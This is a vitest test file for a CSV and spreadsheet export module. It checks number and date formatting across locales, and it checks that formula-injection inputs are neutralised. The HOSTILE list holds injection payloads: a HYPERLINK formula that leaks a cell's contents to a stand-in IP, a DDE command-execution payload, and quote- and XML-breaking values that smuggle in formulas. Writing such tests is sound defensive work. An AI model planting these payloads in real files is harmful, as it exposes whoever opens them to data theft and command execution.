/** Files as a program reads them: hostile texts run nowhere, amounts and instants are exact, and large ones go on. */
import { describe, expect, test } from "vitest";
import type { CurrencyCode } from "#contract/money.ts";
import type { Locale } from "#contract/session.ts";
import { parseCsv, readXlsx } from "../../../test/files/read-sheets.ts";
import type { Column } from "./column.ts";
import { openCsv } from "./csv.ts";
import { openXlsx } from "./xlsx.ts";

interface Row {
  readonly note: string | null;
  readonly amount: bigint | null;
  readonly at: Date;
  readonly currency: CurrencyCode;
}

const columns: readonly Column<Row>[] = [
  { id: "note", head: "transfer.column.note", kind: "text", value: (row) => row.note },
  { id: "amount", head: "column.amount", kind: "money", value: (row) => row.amount },
  { id: "at", head: "transfer.column.at", kind: "instant", value: (row) => row.at },
];
const at = new Date("2026-03-01T02:30:00.250Z");
const row = (changes: Partial<Row>): Row => ({ note: null, amount: null, at, currency: "BRL", ...changes });

/** What people have put into cells to have it run by whoever opens the file, and what only looks like its parts. */
const HOSTILE = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  '=HYPERLINK("http://198.51.100.7/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  'a";=1+1',
  'a",=1+1',
  'x"\r\n=1+1',
  "_x003D_1+1",
  "</t></is></c><c><f>1+1</f></c><c><is><t>",
  "<![CDATA[=1]]>",
  "&#61;1+1",
  "a\0=1",
];
const TRIGGER = /^[\t\r\n]|^[\s\ufeff]*[=+\-@＝＋－＠]/;

async function fileOf(
  open: typeof openCsv,
  rows: readonly Row[],
  locale: Locale = "en-US",
  timeZone = "America/Sao_Paulo",
): Promise<Buffer> {
  const written: Uint8Array[] = [];
  const sheet = await open<Row>({
    columns,
    currencyOf: ({ currency }) => currency,
    manner: { locale, timeZone },
    about: [["=about", "=1+1"]],
    write: async (bytes) => void written.push(Buffer.from(bytes)),
  });
  await sheet.add(rows);
  await sheet.end();
  return Buffer.concat(written);
}

describe("works", () => {
  test("CSV in English has commas between and points in numbers; in Portuguese semicolons and commas", async () => {
    const rows = [row({ note: "a,b", amount: -123_456n }), row({ amount: 5n, currency: "KWD" })];
    const english = (await fileOf(openCsv, rows)).toString();
    expect(english).toBe(
      '\ufeffNote,Amount,When\r\n"a,b",-1234.56,2026-02-28T23:30:00.250-03:00\r\n,0.005,2026-02-28T23:30:00.250-03:00\r\n',
    );
    const portuguese = parseCsv((await fileOf(openCsv, rows, "pt-BR")).toString(), ";");
    expect(portuguese.map((cells) => cells[1])).toEqual(["Valor", "-1234,56", "0,005"]);
  });

  test("a spreadsheet has numbers for amounts, dates on the viewer's clock, and says what it is", async () => {
    const [rows, about] = readXlsx(await fileOf(openXlsx, [row({ note: "x", amount: -123_456n })], "pt-BR"));
    expect(rows?.rows).toEqual([
      [{ text: "Observação" }, { text: "Valor" }, { text: "Quando" }],
      [{ text: "x" }, { number: "-1234.56" }, { number: "46081.979169560" }],
    ]);
    expect([rows?.name, about?.name]).toEqual(["Linhas", "Sobre"]);
    expect(about?.rows).toEqual([[{ text: "'=about" }, { text: "'=1+1" }]]);
  });

  test("an amount with more digits than a spreadsheet keeps is written out", async () => {
    const [rows] = readXlsx(await fileOf(openXlsx, [row({ amount: 9_007_199_254_740_991n })]));
    expect(rows?.rows[1]?.[1]).toEqual({ text: "90071992547409.91" });
  });

  test("rows that do not fit on a sheet go on on the next", async () => {
    const short: typeof openCsv = (options) => openXlsx(options, 2);
    const notes = ["a", "b", "c", "d", "e"];
    const sheets = readXlsx(
      await fileOf(
        short,
        notes.map((note) => row({ note })),
        "en-US",
      ),
    );
    expect(sheets.map(({ name }) => name)).toEqual(["Rows", "Rows 2", "Rows 3", "About"]);
    const found = sheets.slice(0, 3).flatMap(({ rows }) => rows.slice(1).map(([cell]) => cell?.text));
    expect(found).toEqual(notes);
  });
});

describe("protects", () => {
  test.each(["en-US", "pt-BR"] as const)("P27: no cell of a CSV file begins a formula, in %s", async (locale) => {
    const text = (
      await fileOf(
        openCsv,
        HOSTILE.map((note) => row({ note })),
        locale,
      )
    ).toString();
    const cells = parseCsv(text, locale === "pt-BR" ? ";" : ",").slice(1);
    expect(cells).toHaveLength(HOSTILE.length);
    expect(cells.every((line) => line.length === columns.length)).toBe(true);
    expect(cells.flat().filter((cell) => TRIGGER.test(cell) && Number.isNaN(Number(cell.replace(",", "."))))).toEqual(
      [],
    );
  });

  test("P27: no cell of a spreadsheet begins a formula or holds one", async () => {
    const file = await fileOf(
      openXlsx,
      HOSTILE.map((note) => row({ note })),
    );
    const [rows] = readXlsx(file);
    expect(rows?.xml).not.toContain("<f>");
    const texts = rows?.rows.slice(1).map(([cell]) => cell?.text ?? "") ?? [];
    expect(texts).toHaveLength(HOSTILE.length);
    expect(texts.filter((text) => TRIGGER.test(text))).toEqual([]);
    expect(texts).toContain("_x003D_1+1");
  });

  test("the search for triggers finds them where nothing guards", () => {
    expect(HOSTILE.filter((text) => TRIGGER.test(text))).toHaveLength(11);
    const unguarded = HOSTILE.map((text) => `"${text.replaceAll('"', '""')}"`).join("\r\n");
    expect(
      parseCsv(unguarded, ",")
        .flat()
        .filter((cell) => TRIGGER.test(cell)),
    ).toHaveLength(11);
  });
});
